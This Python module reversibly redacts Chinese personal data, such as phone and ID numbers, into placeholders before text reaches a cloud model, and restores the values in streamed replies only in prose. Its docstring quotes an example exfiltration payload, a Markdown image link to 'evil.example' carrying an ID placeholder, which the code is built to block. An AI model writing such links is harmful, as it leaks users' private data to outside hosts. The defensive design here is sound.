"""Reversible redaction of Chinese PII at the egress boundary.

:func:`lingxi.privacy.pii.find_pii` finds the spans (checksums, context windows and look-alike
suppression live there); :class:`Redactor` swaps each distinct value for a numbered, typed placeholder
like ``[手机号_1]`` and keeps the mapping on the device. The same value always gets the same placeholder
within one request, so a cloud model can still refer to "the same phone number", and
:class:`StreamRestorer` puts the real values back into a streamed answer even when a placeholder is split
across chunks — but only in prose: a placeholder inside a URL, a Markdown link target, an HTML tag or code
(:mod:`lingxi.privacy.carriers`) is left as it is and listed in :attr:`StreamRestorer.withheld`, so a cloud
model cannot make the device send a value away by writing ``![x](https://evil.example/?d=[身份证号_1])``.
:func:`redact_lines` is the same thing for ``lingxi privacy redact``, one line at a time.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterable, Iterator
from dataclasses import dataclass, field

from lingxi.privacy.carriers import carrier
from lingxi.privacy.names_model import NameModel
from lingxi.privacy.pii import RECOGNIZERS, Recognizer, Span, find_pii
from lingxi.privacy.pii_checks import luhn_ok, valid_resident_id

__all__ = [
    "RECOGNIZERS",
    "Recognizer",
    "RedactionMap",
    "Redactor",
    "StreamRestorer",
    "luhn_ok",
    "redact_lines",
    "restore",
    "valid_resident_id",
]

_PLACEHOLDER = re.compile(r"\[([^\[\]_]{1,8})_(\d{1,4})\]")


@dataclass
class RedactionMap:
    """Placeholder ↔ original value for one request; never leaves the device."""

    by_value: dict[str, str] = field(default_factory=dict)
    by_placeholder: dict[str, str] = field(default_factory=dict)
    counts: dict[str, int] = field(default_factory=dict)

    def placeholder_for(self, label: str, value: str) -> str:
        if value not in self.by_value:
            self.counts[label] = self.counts.get(label, 0) + 1
            ph = f"[{label}_{self.counts[label]}]"
            self.by_value[value] = ph
            self.by_placeholder[ph] = value
        return self.by_value[value]


class Redactor:
    """Replaces recognized PII with placeholders; ``contacts`` (the user's address book) are always 姓名.

    ``names`` is the name model (:func:`lingxi.privacy.names_model.model_for` a home); by default the one
    of ``LINGXI_HOME`` or the user data dir, else the seed.
    """

    def __init__(
        self,
        recognizers: tuple[Recognizer, ...] | None = None,
        *,
        contacts: Iterable[str] = (),
        names: NameModel | None = None,
    ) -> None:
        self.recognizers = recognizers
        self.contacts = tuple(contacts)
        self.names = names

    def find(self, text: str) -> list[Span]:
        return find_pii(text, contacts=self.contacts, recognizers=self.recognizers, names=self.names)

    def redact_spans(self, text: str, mapping: RedactionMap) -> tuple[str, list[Span]]:
        """The redacted text and the spans replaced, with offsets into the original ``text``."""
        spans = find_pii(text, contacts=self.contacts, recognizers=self.recognizers, names=self.names)
        if not spans:
            return text, spans
        out: list[str] = []
        pos = 0
        for sp in spans:
            out += (text[pos : sp.start], mapping.placeholder_for(sp.type, sp.text))
            pos = sp.end
        out.append(text[pos:])
        return "".join(out), spans

    def redact(self, text: str, mapping: RedactionMap) -> str:
        return self.redact_spans(text, mapping)[0]


def restore(text: str, mapping: RedactionMap) -> str:
    """Put original values back for every placeholder the mapping knows, in prose only (as :class:`StreamRestorer`)."""
    restorer = StreamRestorer(mapping)
    return restorer.feed(text) + restorer.flush()


class StreamRestorer:
    """Restores placeholders in a stream, holding back only an unfinished ``[...`` at a chunk's end.

    ``withheld`` lists, in order, the placeholders left unrestored because they stood inside a carrier.
    """

    def __init__(self, mapping: RedactionMap) -> None:
        self.mapping = mapping
        self.withheld: list[str] = []
        self._pending = ""
        self._seen = ""  # the model's text so far, placeholders as written: the context for each decision

    def feed(self, delta: str) -> str:
        text = self._pending + delta
        cut = text.rfind("[")
        if cut != -1 and "]" not in text[cut:] and len(text) - cut <= 16:
            self._pending, text = text[cut:], text[:cut]
        else:
            self._pending = ""
        return self._restore(text)

    def flush(self) -> str:
        text, self._pending = self._pending, ""
        return self._restore(text)

    def _restore(self, text: str) -> str:
        base = self._seen
        self._seen += text

        def one(m: re.Match[str]) -> str:
            value = self.mapping.by_placeholder.get(m.group(0))
            if value is None:
                return m.group(0)
            if carrier(base + text[: m.start()]) is not None:
                self.withheld.append(m.group(0))
                return m.group(0)
            return value

        return _PLACEHOLDER.sub(one, text)


def redact_lines(
    lines: Iterable[str],
    *,
    as_json: bool,
    redactor: Redactor | None = None,
    mapping: RedactionMap | None = None,
) -> Iterator[str]:
    """Redact text line by line, for ``lingxi privacy redact [--json]``; yields lines without newlines.

    All lines share one :class:`RedactionMap` (the whole input is one request), so a number that appears
    on two lines gets the same placeholder on both. With ``as_json`` each output line is
    ``{"text": redacted, "spans": [{"start", "end", "type", "text"}]}``, offsets in characters into the
    original line (its trailing newline removed).
    """
    redactor = redactor or Redactor()
    mapping = mapping if mapping is not None else RedactionMap()
    for raw in lines:
        line = raw.rstrip("\r\n")
        text, spans = redactor.redact_spans(line, mapping)
        if not as_json:
            yield text
            continue
        found = [{"start": s.start, "end": s.end, "type": s.type, "text": s.text} for s in spans]
        yield json.dumps({"text": text, "spans": found}, ensure_ascii=False)
